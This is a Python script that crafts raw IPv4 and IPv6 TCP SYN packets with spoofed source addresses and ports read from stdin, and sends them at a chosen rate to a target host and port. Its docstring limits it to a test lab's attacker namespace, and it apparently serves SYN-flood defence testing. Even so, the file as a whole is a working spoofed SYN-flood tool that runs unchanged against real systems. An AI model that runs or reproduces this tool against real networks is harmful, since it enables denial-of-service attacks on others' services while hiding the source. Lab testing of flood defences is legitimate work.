"""Sends spoofed TCP SYNs through raw sockets: ``synsend.py DST PORT [RATE] < sources``.

Each stdin line is ``ADDRESS PORT``, a spoofed source. IPv4 packets carry
their own IP header (IPPROTO_RAW implies IP_HDRINCL); IPv6 ones too (on
Linux, IPPROTO_RAW on an IPv6 socket implies IPV6_HDRINCL). Prints how many
packets were sent. Run it inside the attacker namespace of a test lab only.
"""

from __future__ import annotations

import errno
import ipaddress
import socket
import struct
import sys
import time

MSS = 1460
WINDOW = 64240


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of ``data``."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_syn(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
    """A SYN segment with an MSS option, its checksum over the pseudo-header."""
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02, WINDOW, 0, 0)
    segment = header + struct.pack("!BBH", 2, 4, MSS)
    if len(src) == 4:
        pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    else:
        pseudo = src + dst + struct.pack("!IxxxB", len(segment), socket.IPPROTO_TCP)
    total = checksum(pseudo + segment)
    return segment[:16] + struct.pack("!H", total) + segment[18:]


def packet(src: str, sport: int, dst: str, dport: int, seq: int) -> bytes:
    """The whole IP packet."""
    s = ipaddress.ip_address(src).packed
    d = ipaddress.ip_address(dst).packed
    tcp = tcp_syn(s, d, sport, dport, seq)
    if len(s) == 4:
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), seq & 0xFFFF, 0, 64, 6, 0, s, d)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return ip + tcp
    ip = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64, s, d)
    return ip + tcp


def main() -> int:
    dst, dport = sys.argv[1], int(sys.argv[2])
    rate = int(sys.argv[3]) if len(sys.argv) > 3 else 0
    start = time.monotonic()
    family = socket.AF_INET6 if ":" in dst else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    seq = 0x10000000
    sent = 0
    for line in sys.stdin:
        if not line.strip():
            continue
        src, sport = line.split()
        if rate > 0:
            due = start + sent / rate
            if due > time.monotonic() + 0.001:
                time.sleep(due - time.monotonic())
        seq = (seq * 1103515245 + 12345) & 0xFFFFFFFF
        data = packet(src, int(sport), dst, dport, seq)
        for _ in range(1000):
            try:
                sock.sendto(data, (dst, 0))
                break
            except OSError as e:
                if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                    raise
                time.sleep(0.001)
        sent += 1
    print(sent)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
